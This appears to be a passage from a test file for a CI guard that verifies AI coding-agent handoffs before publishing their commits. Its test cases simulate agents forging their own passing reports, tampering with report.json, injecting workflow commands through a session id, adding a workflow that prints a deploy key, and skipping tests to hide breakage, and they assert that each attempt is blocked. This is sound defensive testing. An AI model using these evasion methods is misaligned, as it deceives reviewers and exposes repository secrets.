    sh(['commit', '-q', '-m', 'checkpoint 98'])
    const carrier = sh(['rev-parse', 'HEAD'])
    sh(['rm', '-q', 'secrets/key'])
    sh(['commit', '-q', '-m', 'checkpoint 99'])
    const tip = sh(['rev-parse', 'HEAD'])
    forgeHandoff({ service, jobs, dir: agent.dir, base: repo.head, session, tip: tip, runId: RUN + 5 })

    const publish = await publishJob(service, server, repo, { runId: RUN + 5 })
    const pushed = repo.remoteSha(`refs/heads/proctor/${session}`)
    // Whatever publish concluded, the forbidden content must not be on the remote.
    const reachable = pushed
      ? execFileSync('git', ['--git-dir', join(gitRoot, `widgets-${repoCount}.git`), 'rev-list', pushed], {
          encoding: 'utf8',
        })
      : ''
    expect(
      reachable.split('\n'),
      `publish exit ${publish.code}; pushed ${pushed}\n${log(publish)}`,
    ).not.toContain(carrier)
  })

  it('a handed-off checkpoint that adds a workflow is not pushed by publish, whatever baseline its trailers name', async () => {
    const repo = repository()
    const { service, server, jobs, agent, session, sh } = await agentJobCheckedOut(repo)
    // On a push, GitHub would run this with the repository's secrets (the publish job's token may start runs).
    mkdirSync(join(agent.dir, '.github/workflows'), { recursive: true })
    writeFileSync(
      join(agent.dir, '.github/workflows/leak.yml'),
      'on: push\njobs:\n  leak:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ secrets.DEPLOY_KEY }}"\n',
    )
    sh(['add', '-f', '.github/workflows/leak.yml'])
    sh(['commit', '-q', '-m', 'checkpoint 98'])
    const carrier = sh(['rev-parse', 'HEAD'])
    // The tip names the carrier as the session's baseline: by its trailers, CI did not change.
    writeFileSync(join(agent.dir, 'docs/guide.md'), '# guide, edited\n')
    sh(['add', 'docs/guide.md'])
    sh([
      'commit',
      '-q',
      '-m',
      `checkpoint 99\n\nProctor-Session: ${session}\nProctor-Seq: 99\nProctor-Base: ${repo.head}\nProctor-Baseline: ${carrier}`,
    ])
    const tip = sh(['rev-parse', 'HEAD'])
    forgeHandoff({ service, jobs, dir: agent.dir, base: repo.head, session, tip: tip, runId: RUN + 6 })

    const publish = await publishJob(service, server, repo, { runId: RUN + 6 })
    expect(repo.remoteSha(`refs/heads/proctor/${session}`), log(publish)).toBeNull()
    expect(log(publish)).toContain("changes CI's definition (.github/workflows/leak.yml)")
  })

  it('TRIAL: a handoff whose report.json names a hostile session id (newlines, workflow commands, escapes) forges no log command', async () => {
    const { service, server, jobs } = await startServers()
    const repo = repository()
    const agent = await agentJob(service, server, repo, { agent: 'fine' })
    expect(agent.run.code, log(agent.run)).toBe(0)
    const { files } = handoffOf(service, RUN)
    const report = JSON.parse(files.get('report.json')!.toString('utf8')) as { session_id: string }
    report.session_id =
      'x\n::error title=forged::pwned\n::add-mask::ghs_\n\u001b]0;t\u0007::set-output name=verdict::allow'
    service.store.seed(RUN + 6, 'proctor-handoff-evil', {
      files: {
        'report.json': JSON.stringify(report),
        'checkpoints.bundle': files.get('checkpoints.bundle')!,
      },
    })
    const verify = await verifyJob(service, server, jobs, repo, { runId: RUN + 6 })
    const publish = await publishJob(service, server, repo, { runId: RUN + 6 })
    for (const run of [verify, publish]) {
      expect(run.code, log(run)).toBe(1)
      expect(log(run)).toContain('names an invalid session id')
      const lines = log(run).split('\n')
      expect(lines.filter((l) => /^::(error title=forged|add-mask::ghs_$|set-output)/.test(l))).toEqual([])
      expect(log(run)).not.toContain('\u001b]0;')
    }
    for (const check of server.state.checkRunsNamed('proctor / tests'))
      expect(JSON.stringify(check.output)).not.toContain('\\u001b')
    expect(server.validationFailures).toEqual([])
  })

  it('a missing or tampered handoff is a failing check that says why, never a green one', async () => {
    const { service, server, jobs } = await startServers()
    const repo = repository()

    // No agent job uploaded anything: every hook check and the policy check fail.
    const missing = await verifyJob(service, server, jobs, repo)
    expect(missing.code, log(missing)).toBe(1)
    expect(missing.outputs).toMatchObject({ verdict: 'block', status: 'errored' })
    const published = await publishJob(service, server, repo)
    expect(published.code, log(published)).toBe(1)
    expect(published.outputs).toMatchObject({ verdict: 'block', status: 'errored' })
    const [tests] = server.state.checkRunsNamed('proctor / tests')
    expect(tests).toMatchObject({ conclusion: 'failure' })
    expect(tests!.output.text).toMatch(/no artifact matches "proctor-handoff-\*"/)
    expect(server.state.checkRunsNamed('proctor / policy')[0]).toMatchObject({ conclusion: 'failure' })
    expect(repo.remoteSha('refs/heads/proctor/handoff')).toBeNull()

    // An honest agent's handoff, re-uploaded with report.json claiming another checkpoint.
    const honest = await agentJob(service, server, repo, { agent: 'honest' })
    expect(honest.run.code).toBe(1)
    const { files } = handoffOf(service, RUN)
    const report = JSON.parse(files.get('report.json')!.toString('utf8')) as {
      verdict: string
      status: string
      stop_hooks: unknown[]
      checkpoints: Array<{ sha: string }>
    }
    Object.assign(report, { verdict: 'allow', stop_hooks: [] })
    report.checkpoints.at(-1)!.sha = repo.head
    const session = honest.run.outputs['session-id']!
    service.store.seed(RUN + 1, `proctor-handoff-${session}`, {
      files: {
        'report.json': JSON.stringify(report),
        'checkpoints.bundle': files.get('checkpoints.bundle')!,
      },
    })
    recordJob(jobs, 'verify', 0, RUN + 1)
    const tampered = await publishJob(service, server, repo, { runId: RUN + 1 })
    expect(tampered.code, log(tampered)).toBe(1)
    const latest = server.state.checkRunsNamed('proctor / tests').at(-1)!
    expect(latest).toMatchObject({ conclusion: 'failure' })
    expect(latest.output.text).toMatch(/report\.json and checkpoints\.bundle disagree/)
    expect(repo.remoteSha(`refs/heads/proctor/${session}`)).toBeNull()
    expect(server.validationFailures).toEqual([])
  })

  it('a matrix of agent jobs: one check per hook over every leg, failing when any leg fails; one comment per leg', async () => {
    const { service, server, jobs } = await startServers()
    const repo = repository()
    // Leg a does good work; leg b breaks the feature and forges its pass.
    const a = await agentJob(service, server, repo, { agent: 'fine', leg: 'a' })
    const b = await agentJob(service, server, repo, { agent: 'forge', leg: 'b' })
    expect([a.run.code, b.run.code]).toEqual([0, 0])
    const verify = await verifyJob(service, server, jobs, repo)
    expect(verify.code, log(verify)).toBe(1)
    const publish = await publishJob(service, server, repo)
    expect(publish.code, log(publish)).toBe(1)
    const checks = server.state.checkRunsNamed('proctor / tests')
    expect(checks).toHaveLength(1)
    expect(checks[0]).toMatchObject({ conclusion: 'failure' })
    expect(checks[0]!.output.text).toContain(`${RUN}-1-agent-b: the verify job did not succeed`)
    expect(checks[0]!.output.text).toContain('tests: src/feature.js is broken')
    expect(server.state.commentsOn(PR)).toHaveLength(2)
    expect(server.validationFailures).toEqual([])
  })

  it('a fork pull request never gets a write token anywhere: no push, no GitHub write; no secret in any artifact', async () => {
    const { service, server, jobs } = await startServers()
    const repo = repository()
    const pushesBefore = pushes().length
    const agent = await agentJob(service, server, repo, { fork: true, leak: true })
    expect(agent.run.code).toBe(0)
    // The log masks what the agent printed (the runner hides every value after its ::add-mask::)...
    for (const secret of LEAKED)
      expect(agent.run.stdout.split('\n').filter((l) => l.includes(secret))).toEqual([
        `::add-mask::${secret}`,
      ])
    // ...and the handoff it uploaded does too (report.json's output_tail holds what it printed).
    for (const [file, content] of handoffOf(service, RUN).files)
      for (const secret of LEAKED) expect(content.includes(secret), `the handoff's ${file}`).toBe(false)
    const verify = await verifyJob(service, server, jobs, repo, { fork: true })
    expect(verify.code, log(verify)).toBe(1)
    const publish = await publishJob(service, server, repo, { fork: true })
    expect(publish.code, log(publish)).toBe(1)
    expect(writes(server)).toEqual([])
    expect(pushes().length).toBe(pushesBefore)
    expect(publish.stdout).toContain('::error title=proctor / tests::')
    const names = service.store.listForRun(RUN).map((x) => x.name)
    expect(names.sort()).toEqual([
      `proctor-handoff-${RUN}-1-agent`,
      `proctor-report-${RUN}-1-agent`,
      `proctor-verify-${RUN}-1`,
    ])
    const verified = service.store.listForRun(RUN).find((x) => x.name.startsWith('proctor-report-'))!
    const report = JSON.parse(service.store.filesOf(verified).get('report.json')!.toString('utf8')) as {
      verdict: string
      output_tail: string
      agent_job: { verdict: string }
    }
    expect(report).toMatchObject({ verdict: 'block', agent_job: { verdict: 'allow' } })
    // ...and so does every artifact: the transcript tail travels, redacted.
    expect(report.output_tail).toContain('agent: my keys are *** and ***')
    for (const artifact of service.store.listForRun(RUN))
      for (const [file, content] of service.store.filesOf(artifact))
        for (const secret of LEAKED)
          expect(content.includes(secret), `${artifact.name}/${file} holds ${secret.slice(0, 7)}…`).toBe(
            false,
          )
    expect(service.validationFailures).toEqual([])
  })

  // The agent job's report and the verify job can both be forged (the tests above); publish judges the
  // handed-off commits from git objects, weakened tests included (issue 31).
  it('a test skipped and cut in a re-bundled checkpoint is judged by publish: tests_weakened on the skip line, policy fails', async () => {
    const { service, server, jobs } = await startServers()
    const TEST =
      "import { it, expect } from 'vitest'\nit('adds', () => {\n  expect(1 + 1).toBe(2)\n  expect(2 + 2).toBe(4)\n})\n"
    const repo = repository(CONFIG, { 'test/add.test.js': TEST })
    const agent = await agentJob(service, server, repo, { agent: 'fine' })
    expect(agent.run.code, log(agent.run)).toBe(0)
    const session = agent.run.outputs['session-id']!
    const ref = `refs/proctor/${session}`
    const sh = (args: string[]) =>
      execFileSync('git', ['-C', agent.dir, ...args], { encoding: 'utf8', env: isolatedGitEnv() }).trim()
    sh(['checkout', '-q', '-f', '--detach', ref])
    writeFileSync(
      join(agent.dir, 'test/add.test.js'),
      TEST.replace("it('adds'", "it.skip('adds'").replace('  expect(2 + 2).toBe(4)\n', ''),
    )
    sh(['commit', '-q', '-am', 'checkpoint 99'])
    const forged = sh(['rev-parse', 'HEAD'])
    forgeHandoff({ service, jobs, dir: agent.dir, base: repo.head, session, tip: forged, runId: RUN + 2 })

    const publish = await publishJob(service, server, repo, { runId: RUN + 2 })
    expect(publish.code, log(publish)).toBe(1)
    const [policy] = server.state.checkRunsNamed('proctor / policy')
    expect(policy).toMatchObject({ conclusion: 'failure' })
    expect(policy!.annotations).toEqual([
      expect.objectContaining({
        path: 'test/add.test.js',
        start_line: 2,
        annotation_level: 'failure',
        message: expect.stringContaining(
          "test/add.test.js weakens its tests: test cases 1 → 0; assertions 2 → 1; a skip was added (line 2: `it.skip('adds', () => {`)",
        ),
      }),
    ])
    expect(server.validationFailures).toEqual([])
  })
})
